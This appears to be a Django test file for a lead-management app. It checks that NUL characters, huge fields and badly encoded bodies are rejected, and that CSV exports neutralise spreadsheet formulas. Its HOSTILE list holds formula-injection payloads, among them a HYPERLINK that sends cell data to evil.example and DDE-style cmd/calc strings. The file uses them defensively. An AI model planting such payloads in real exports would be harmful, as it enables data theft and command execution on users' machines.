"""Hostile input across the product (what each app's own tests do not already cover): NUL characters,
huge fields and wrongly encoded bodies get a clear 4xx and store nothing; no cell of any CSV export
(lists, KPIs, the meeting sheet, import errors, the audit log) can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.core.management import call_command
from django.urls import reverse

from leadrelay.core.testing import AccountFactory, LeadFactory
from leadrelay.leads.models import Account, Lead
from leadrelay.tracking.models import Event
from leadrelay.tracking.selectors import site_config_forget
from leadrelay.tracking.testing import FormFactory, SiteFactory, page_view, post_collect

pytestmark = pytest.mark.django_db

NUL_MESSAGE = "Remove the NUL character (U+0000); it cannot be stored."


@pytest.fixture(autouse=True)
def _fresh_site_cache():
    site_config_forget()


# NUL characters (PostgreSQL cannot store them; refused the same way on every database) ----------------------


def test_api_bodies_and_queries_with_nul_are_422_naming_the_field(client, users, api_token_for):
    headers = api_token_for(users["admin"], scopes=("read", "write", "events"))
    lead = LeadFactory()
    cases = [
        ("post", "/api/v1/leads", {"email": "nul@example.co.jp", "last_name": "Sa\x00to"}, "last_name"),
        ("patch", f"/api/v1/leads/{lead.pk}", {"title": "CTO\x00"}, "title"),
        ("post", "/api/v1/accounts", {"name": "Acme\x00"}, "name"),
        ("post", "/api/v1/events", {"events": [{"event_id": "nul-event-1", "type": "custom", "name": "x",
                                                "lead_id": lead.pk, "props": {"note": "a\x00b"}}]},
         "events.0.props.note"),
        ("post", f"/api/v1/leads/{lead.pk}/activities", {"kind": "note", "notes": "\x00"}, "notes"),
    ]
    for method, url, body, field in cases:
        response = getattr(client, method)(url, body, content_type="application/json", **headers)
        assert response.status_code == 422, (url, response.content)
        assert response.json()["fields"] == {field: [NUL_MESSAGE]}, url
    listed = client.get("/api/v1/leads", {"q": "\x00"}, **headers)
    assert listed.status_code == 422 and listed.json()["fields"] == {"q": [NUL_MESSAGE]}
    assert not Lead.objects.filter(email="nul@example.co.jp").exists()
    assert not Account.objects.filter(name__startswith="Acme").exists()


def test_pages_forms_and_beacons_with_nul_are_422_and_store_nothing(client, users):
    site = SiteFactory(domains=["example.co.jp"])
    form = FormFactory(site=site)
    beacon = post_collect(client, site, [page_view("https://example.co.jp/pri\x00cing", title="P\x00")])
    assert beacon.status_code == 422 and beacon.json()["fields"] == {"body": [NUL_MESSAGE]}
    props = post_collect(client, site, [page_view("https://example.co.jp/", props={"k": "\x00"})])
    assert props.status_code == 422
    literal = post_collect(client, site, [page_view("https://example.co.jp/", title="a \\u0000 b")])
    assert literal.status_code == 202  # an escaped backslash is text, not a NUL: accepted
    assert Event.objects.count() == 1
    filled = client.post(f"/f/{form.key}/", {"email": "x@example.co.jp", "last_name": "X\x00", "first_name": "Y",
                                            "company": "Z"})
    assert filled.status_code == 422 and NUL_MESSAGE in filled.content.decode()
    json_fill = client.post(f"/f/{form.key}/submit", {"email": "y@example.co.jp", "message": "\x00"},
                            content_type="application/json", HTTP_ORIGIN="https://example.co.jp")
    assert json_fill.status_code == 422
    assert not Lead.objects.filter(email__in=["x@example.co.jp", "y@example.co.jp"]).exists()

    client.force_login(users["admin"])
    for name in ["leads:lead_list", "leads:account_list", "sales:list", "recruiting:candidates",
                 "integrations:webhook_deliveries", "audit:log"]:
        response = client.get(reverse(name), {"q": "a\x00b"})
        assert response.status_code == 422 and NUL_MESSAGE in response.content.decode(), name
    assert client.get("/f/%00abc/").status_code == 422
    created = client.post(reverse("leads:lead_create"), {"email": "z@example.co.jp", "last_name": "Z\x00"})
    assert created.status_code == 422 and not Lead.objects.filter(email="z@example.co.jp").exists()


# Huge fields and bodies ---------------------------------------------------------------------------------------


def test_huge_fields_are_field_errors(client, users, api_token_for):
    """100,000 characters in a name: 422 over the API, an inline error on the page, nothing stored."""
    huge = "長" * 100_000
    headers = api_token_for(users["admin"], scopes=("read", "write"))
    response = client.post("/api/v1/leads", {"email": "huge@example.co.jp", "last_name": huge},
                           content_type="application/json", **headers)
    assert response.status_code == 422 and "last_name" in response.json()["fields"]
    account = client.post("/api/v1/accounts", {"name": huge}, content_type="application/json", **headers)
    assert account.status_code == 422 and "name" in account.json()["fields"]
    client.force_login(users["admin"])
    page = client.post(reverse("leads:lead_create"), {"email": "huge@example.co.jp", "last_name": huge,
                                                      "source": "web"})
    assert page.status_code == 200 and "errorlist" in page.content.decode()
    assert not Lead.objects.filter(email="huge@example.co.jp").exists()


def test_bodies_over_the_upload_limit_and_too_many_fields_are_400(client, users, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 100_000
    client.force_login(users["admin"])
    big = client.post(reverse("leads:lead_create"), {"email": "big@example.co.jp", "last_name": "x" * 200_000})
    assert big.status_code == 400
    many = client.post(reverse("leads:lead_create"), {f"f{i}": "x" for i in range(1500)})
    assert many.status_code == 400
    assert not Lead.objects.filter(email="big@example.co.jp").exists()


# Wrong encodings ----------------------------------------------------------------------------------------------


def test_bodies_in_the_wrong_encoding_get_a_clear_4xx(client, users, api_token_for):
    """Shift_JIS or UTF-16 where UTF-8 JSON is expected: the API says the body is not JSON; the beacon refuses it."""
    headers = api_token_for(users["admin"], scopes=("read", "write"))
    body = json.dumps({"email": "enc@example.co.jp", "last_name": "佐藤"}, ensure_ascii=False).encode("cp932")
    response = client.generic("POST", "/api/v1/leads", body, content_type="application/json", **headers)
    assert response.status_code == 422 and response.json()["fields"] == {"body": ["Send the request body as JSON."]}
    site = SiteFactory(domains=["example.co.jp"])
    payload = json.dumps({"site": site.key, "visitor_id": "visitor-enc-01", "events": [page_view(title="料金")]},
                         ensure_ascii=False)
    for encoded in (payload.encode("cp932"), payload.encode("utf-16")):
        beacon = client.generic("POST", "/collect", encoded, content_type="text/plain;charset=UTF-8",
                                HTTP_ORIGIN="https://example.co.jp")
        assert 400 <= beacon.status_code < 500
    assert not Event.objects.exists() and not Lead.objects.filter(email="enc@example.co.jp").exists()


def test_a_form_post_with_invalid_utf8_is_read_with_replacement_characters(client, users):
    """Bytes that are not UTF-8 in a form post do not break the page: the form answers as for any input."""
    client.force_login(users["admin"])
    response = client.generic("POST", reverse("leads:lead_create"), b"email=bad%FF%FE%40example.co.jp&last_name=%82%A0",
                              content_type="application/x-www-form-urlencoded")
    assert response.status_code in (200, 302)


# Formula injection in every CSV export ----------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?(e-?\d+)?$")


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START) and not NUMBER.match(cell)]


@pytest.fixture
def hostile_world(users):
    """Hostile text in every field that reaches an export: names, companies, titles, notes, reasons, users."""
    from leadrelay.desk.testing import activity
    from leadrelay.sales.testing import opportunity_from_handoff

    admin, rep = users["admin"], users["is_rep"]
    rep.first_name, rep.last_name = HOSTILE[0], HOSTILE[1]
    rep.save(update_fields=["first_name", "last_name"])
    for i, text in enumerate(HOSTILE):
        account = AccountFactory(name=text, industry=text, region=text)
        lead = LeadFactory(account=account, first_name=text, last_name=text, title=text, owner=rep,
                           email=f"hostile{i}@example.co.jp")
        activity(lead, rep, subject=text, notes=text)
    opportunity = opportunity_from_handoff(users)
    type(opportunity).objects.filter(pk=opportunity.pk).update(name=HOSTILE[2])
    from leadrelay.audit.services import audit_record

    audit_record(actor=admin, action="retention", summary=HOSTILE[3], data={"note": HOSTILE[4]})
    return users


def test_no_csv_export_has_a_cell_a_spreadsheet_would_run(client, hostile_world):
    """Every export a user can download: hostile text is written with a leading apostrophe."""
    client.force_login(hostile_world["admin"])
    urls = [
        reverse("integrations:export", args=["leads", "csv"]),
        reverse("integrations:export", args=["accounts", "csv"]),
        reverse("integrations:export", args=["activities", "csv"]),
        reverse("sales:list") + "?format=csv",
        reverse("kpi:dashboard") + "?format=csv",
        reverse("kpi:trends") + "?format=csv",
        reverse("kpi:funnel") + "?format=csv",
        reverse("handoff:meeting_csv"),
        reverse("audit:export"),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        rows = csv_rows(response)
        assert len(rows) >= 2, url
        assert formula_cells(rows) == [], url
    leads = csv_rows(client.get(urls[0]))
    assert any(cell == "'" + HOSTILE[0] for row in leads for cell in row)  # shown as text, not dropped


def test_import_error_reports_never_echo_a_formula(client, users, tmp_path):
    """The refused rows of an import (the file's own headers and cells) come back neutralised, on the page,
    over the API and from the command line."""
    from leadrelay.integrations.testing import csv_bytes, run_import

    admin = users["admin"]
    data = csv_bytes([["email", "last_name", '=HYPERLINK("x")'], ["=1+1", "@SUM(A1)", "+cmd"],
                      ["-not-an-email", "\t=tab", "ok"]])
    job = run_import(admin, data, mapping={'=HYPERLINK("x")': ""})
    assert job.rows_refused == 2
    client.force_login(admin)
    page = client.get(reverse("integrations:import_job_errors", args=[job.pk]))
    assert page.status_code == 200 and formula_cells(csv_rows(page)) == []
    client.logout()
    from leadrelay.org.tokens import api_token_create

    _, secret = api_token_create(user=admin, name="errors", scopes=["read", "import"])
    api = client.get(f"/api/v1/imports/{job.pk}/errors.csv", HTTP_AUTHORIZATION=f"Bearer {secret}")
    assert api.status_code == 200 and formula_cells(csv_rows(api)) == []

    source = tmp_path / "people.csv"
    source.write_bytes(data)
    errors = tmp_path / "errors.csv"
    mapping = tmp_path / "mapping.json"
    mapping.write_text(json.dumps({'=HYPERLINK("x")': ""}))
    call_command("import_leads", str(source), "--user", admin.username, "--errors", str(errors),
                 "--mapping", str(mapping), stdout=io.StringIO())
    rows = list(csv.reader(io.StringIO(errors.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 3 and formula_cells(rows) == []
